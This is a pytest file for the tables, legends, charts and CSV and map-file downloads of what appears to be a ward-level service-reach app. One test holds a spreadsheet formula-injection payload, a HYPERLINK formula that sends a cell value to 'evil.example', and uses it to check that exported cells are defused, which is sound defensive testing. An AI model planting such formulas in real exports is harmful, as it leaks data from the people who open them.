"""Tables, cards, legends, downloads and charts."""

import csv
import io
import json
import math
import sqlite3
from contextlib import closing
from functools import partial
from pathlib import Path

import geopandas as gpd
import pandas as pd
import pytest
import shapely

from analysis.shown import FEW
from drawing import palette
from drawing.legend import bands_legend, classes_legend, services_legend
from geo.errors import InputError, PackError, ReachError, UnknownNameError
from ui.kit import cards, charts, downloads, legend, page, tables
from wording.groups import AreaWords, group_words

AREA = AreaWords("borough", "ward", "wards", "target ward", "target wards")


def test_table_shows_units_and_keeps_numbers() -> None:
    frame = pd.DataFrame({"name": ["A", "B"], "n": [10.4, 20.5], "share": [0.412, 1.0], "time": [12.0, math.inf]})
    columns = {
        "name": tables.Column("Ward", pinned=True),
        "n": tables.Column("Children", "people"),
        "share": tables.Column("Can reach", "percent"),
        "time": tables.Column("Minutes", "minutes"),
    }
    shown = tables.shown_frame(frame, columns)
    assert shown["n"].tolist() == [10, 21]
    assert shown["share"].tolist() == [41, 100]
    assert math.isnan(shown["time"].iloc[1])
    assert tables.column_config(columns, shown)["share"]["type_config"]["format"] == "%.0f%%"


def test_a_few_are_said_in_words_and_sorted_by_size() -> None:
    columns = {"n": tables.Column("Children", "people"), "time": tables.Column("Minutes", "minutes")}
    frame = pd.DataFrame({"n": [40.0, FEW, 40 - FEW], "time": [2.5, 7.5, 2.5]})
    shown = tables.shown_frame(frame, columns)
    assert shown["n"].sort_values().tolist() == [FEW, 40 - FEW, 40]
    styled = tables.with_words(shown, columns).to_html()
    assert all(words in styled for words in (">40<", ">fewer than 5<", ">all but a few<"))
    formats = {name: made["type_config"].get("format") for name, made in tables.column_config(columns, shown).items()}
    assert formats == {"n": None, "time": "%.0f min"}, "a column with a format shows no words"
    said = downloads.csv_bytes(frame, {}).decode()
    assert "\nfewer than 5,7.5\nall but a few,2.5" in said


def test_a_map_file_keeps_numbers_and_says_a_few_beside_them(tmp_path) -> None:
    places = gpd.GeoDataFrame(
        {"reached": [40.0, FEW], "minutes": [2.5, 2.5]}, geometry=gpd.points_from_xy([0, 1], [0, 1]), crs=27700
    )
    path = tmp_path / "a.gpkg"
    path.write_bytes(downloads.geopackage_bytes({"wards": places}, {}))
    read = gpd.read_file(path, layer="wards")
    assert read["reached"].tolist()[0] == 40
    assert math.isnan(read["reached"].tolist()[1])
    assert read["reached_said"].fillna("").tolist() == ["", "fewer than 5"]
    assert read["minutes"].tolist() == [2.5, 2.5]


def test_a_table_says_none_and_all_of_none_and_all_only() -> None:
    frame = pd.DataFrame({"share": [0.0, 0.001, 0.0051, 0.994, 0.996, 0.9999, 1.0, math.nan]})
    shown = tables.shown_frame(frame, {"share": tables.Column("Share", "percent")})["share"]
    assert shown.tolist()[:-1] == [0, 1, 1, 99, 99, 99, 100]
    assert math.isnan(shown.iloc[-1])


def test_a_table_on_paper_has_every_row_as_on_screen() -> None:
    columns = {
        "name": tables.Column("Ward <1>"),
        "children": tables.Column("Children", "people"),
        "share": tables.Column("Share", "percent"),
        "minutes": tables.Column("Half live within", "minutes"),
        "score": tables.Column("Score", "score"),
    }
    frame = pd.DataFrame(
        {
            "name": ["<b>Milton</b>", "Thorpe", *(f"Ward {n}" for n in range(60))],
            "children": [4030.0, FEW, *[5.0] * 60],
            "share": [0.415, 0.0, *[1.0] * 60],
            "minutes": [12.4, math.inf, *[1.0] * 60],
            "score": [1.234, math.nan, *[1.0] * 60],
        }
    )
    html = tables.printed_html(tables.shown_frame(frame, columns), columns, "Reach & ward")
    assert "<b>" not in html
    (read,) = pd.read_html(io.StringIO(html), keep_default_na=False, thousands=None)
    assert len(read) == 62
    assert read.columns.tolist() == ["Ward <1>", "Children", "Share", "Half live within", "Score"]
    assert read.iloc[0].tolist() == ["<b>Milton</b>", "4,030", "42%", "12 min", "1.23"]
    assert read.iloc[1].tolist() == ["Thorpe", "fewer than 5", "0%", "–", "–"]
    assert html.startswith('<table class="on-paper"><caption>Reach &amp; ward</caption>')


def test_on_paper_a_short_table_is_not_divided_and_a_date_not_broken() -> None:
    def printed(rows: int) -> str:
        frame = pd.DataFrame({"as_of": ["2026-07-24"] * rows, "address": ["Rear of 74 Christchurch Road"] * rows})
        columns = {"as_of": tables.Column("As of"), "address": tables.Column("Address")}
        return tables.printed_html(tables.shown_frame(frame, columns), columns, "Services")

    row = '<tr><td class="one-line">2026-07-24</td><td>Rear of 74 Christchurch Road</td></tr>'
    assert printed(17).startswith('<table class="on-paper" data-whole>')
    assert printed(26).startswith('<table class="on-paper"><caption>')
    assert printed(26).count(row) == 26


def test_card_escapes_and_says_its_status() -> None:
    html = cards.card_html(cards.Card("<b>", "4,032", "children", "modelled"))
    assert "&lt;b&gt;" in html
    assert "◇" in html


def test_legend_has_words_for_every_sign() -> None:
    classes = palette.class_breaks([210, 480, 990])
    html = legend.legend_html(classes_legend(classes, "Children <3", missing="no figure", outline="target ward"))
    assert all(words in html for words in (*classes.labels, "no figure", "target ward", "Children &lt;3"))
    bands = palette.time_bands(15)
    assert all(words in legend.legend_html(bands_legend(bands, "Minutes")) for words in bands.labels)
    assert "Children&#x27;s centre" in legend.legend_html(services_legend(["childrens_centre", "bus_stop"]))


def test_csv_carries_its_notes() -> None:
    data = downloads.csv_bytes(
        pd.DataFrame({"name": ["=1+1", "Milton"], "n": [-1, 2]}),
        {"title": "Reach\nby ward", "attribution": "© Somebody", "licence": "CC0"},
    )
    text = data.decode("utf-8-sig")
    assert text.startswith("# title,Reach by ward\n# attribution,© Somebody\n# licence,CC0\n")
    read = pd.read_csv(io.StringIO(text), comment="#")
    assert read["name"].tolist() == ["'=1+1", "Milton"]
    assert read["n"].tolist() == [-1, 2]


@pytest.mark.parametrize("parted", [",", ";", "\t"])
def test_no_cell_of_a_csv_is_a_formula(parted: str) -> None:
    """Names come from shared links; a spreadsheet parts cells at commas, or by the reader's language at semicolons."""
    name = 'Plan,=HYPERLINK("http://evil.example/?"&B9,"open");=1+1; +1'
    frame = pd.DataFrame(
        {
            "kind": pd.Categorical(["=1+1", "b"]),
            "text": pd.array([" =1+1", "\t@SUM(1)"], dtype="string"),
            "mixed": ["a;=2", -3],
            "=head": [name, "plain -1"],
            "n": [-1.5, 2],
        }
    )
    text = downloads.csv_bytes(frame, {"title": name, "note": "=1+1"}).decode("utf-8-sig")
    cells = [cell for line in csv.reader(io.StringIO(text), delimiter=parted) for cell in line]
    signed = {cell for cell in cells if cell.lstrip()[:1] in ("=", "+", "-", "@")}
    assert signed == ({"-3", "-1.5"} if parted == "," else set()), "numbers alone may start with a sign"
    read = pd.read_csv(io.StringIO(text), comment="#")
    assert read["n"].tolist() == [-1.5, 2]
    assert read["kind"].tolist() == ["'=1+1", "b"]
    if parted == ",":
        assert ["# title", name.replace(";", ";'")] in [*csv.reader(io.StringIO(text))], "one heading, one text"


def test_geopackage_carries_its_notes(tmp_path: Path) -> None:
    frame = gpd.GeoDataFrame({"name": ["Milton"]}, geometry=[shapely.box(0, 0, 1, 1)], crs=27700)
    file = tmp_path / "a.gpkg"
    file.write_bytes(downloads.geopackage_bytes({"wards": frame, "more": frame}, {"title": "Reach", "licence": "CC0"}))
    assert gpd.read_file(file, layer="more")["name"].tolist() == ["Milton"]
    with closing(sqlite3.connect(file)) as connection:
        about = dict(connection.execute("SELECT heading, text FROM about"))
    assert about == {"title": "Reach", "licence": "CC0"}


def test_geopackage_of_nothing() -> None:
    with pytest.raises(InputError, match="nothing to write"):
        downloads.geopackage_bytes({}, {})


def test_bars_mark_target_wards_in_their_names() -> None:
    frame = pd.DataFrame({"name": ["A", "B"], "target": [True, False], "share": [0.2, 0.8]})
    spec = charts.ward_bars(
        frame, "share", title="Share by ward", axis_title="share", fmt=".0%", marker=0.5, words=AREA
    ).to_dict()
    text = json.dumps(spec)
    assert spec["title"] == "Share by ward"
    assert "description" not in spec  # the text given to show_chart takes its place; Streamlit warns of both
    assert "\\u25b6 A" in text
    assert "\\u25b6 B" not in text
    assert '"url"' not in text


def test_the_line_has_a_name_and_strikes_no_figure() -> None:
    frame = pd.DataFrame({"name": list("ABC"), "target": [True, False, False], "share": [0.47, 0.8, 0.2]})
    spec = charts.ward_bars(
        frame, "share", title="Share", axis_title="share", fmt=".0%", marker=0.5, words=AREA
    ).to_dict()
    rows = next(rows for rows in spec["datasets"].values() if "end" in rows[0])
    assert {row["ward"][-1]: row["end"] for row in rows} == {"A": 0.5, "B": 0.8, "C": 0.2}
    without = charts.ward_bars(frame, "share", title="Share", axis_title="share", words=AREA).to_dict()
    assert [row["end"] for rows in without["datasets"].values() for row in rows] == [0.8, 0.47, 0.2]
    assert [layer["encoding"]["text"]["field"] for layer in spec["layer"] if layer["mark"]["type"] == "text"] == [
        "value",
        "label",
    ]


def test_curve_tells_lines_apart_by_dash() -> None:
    frame = pd.DataFrame({"minutes": [5, 5], "group": ["target", "rest"], "share": [0.1, 0.3]})
    spec = charts.share_curve(
        frame, title="Share within minutes", threshold_min=15, names=group_words(AREA, n_target=3, n_rest=14)
    ).to_dict()
    assert "strokeDash" in spec["layer"][0]["encoding"]
    assert "three target wards" in json.dumps(spec)
    assert "other 14 wards" in json.dumps(spec)


@pytest.mark.parametrize(
    "error", [UnknownNameError("service", "x", ["y"]), PackError("p"), InputError("i"), ReachError()]
)
def test_every_error_comes_with_advice(error: ReachError) -> None:
    assert page.advice(error).endswith(".")


def test_a_chart_is_made_once_for_all_visitors_who_ask_the_same(monkeypatch: pytest.MonkeyPatch) -> None:
    shown: list[dict[str, object]] = []
    made: list[str] = []
    monkeypatch.setattr(charts.st, "vega_lite_chart", lambda spec, **_: shown.append(spec))
    monkeypatch.setattr(charts, "picture_button", lambda *_, **__: None)
    written = charts._written
    monkeypatch.setattr(charts, "_written", lambda chart: made.append("") or written(chart))
    charts._made.clear()

    def show(share: float, title: str) -> None:
        frame = pd.DataFrame({"name": ["A", "B"], "target": [True, False], "share": [share, 0.8]})
        bars = partial(charts.ward_bars, frame, "share", title=title, axis_title="share", words=AREA)
        charts.show_chart(bars, key="bars", alt_text="", credit="")

    show(0.2, "Share"), show(0.2, "Share"), show(0.3, "Share"), show(0.2, "Long " * 20)
    assert len(made) == 3
    assert shown[0] == shown[1]
    assert "0.3" in json.dumps(shown[2]["datasets"])
    assert "0.3" not in json.dumps(shown[1]["datasets"])
    assert len(shown[3]["title"]) > 1
    assert all("config" not in spec for spec in shown)
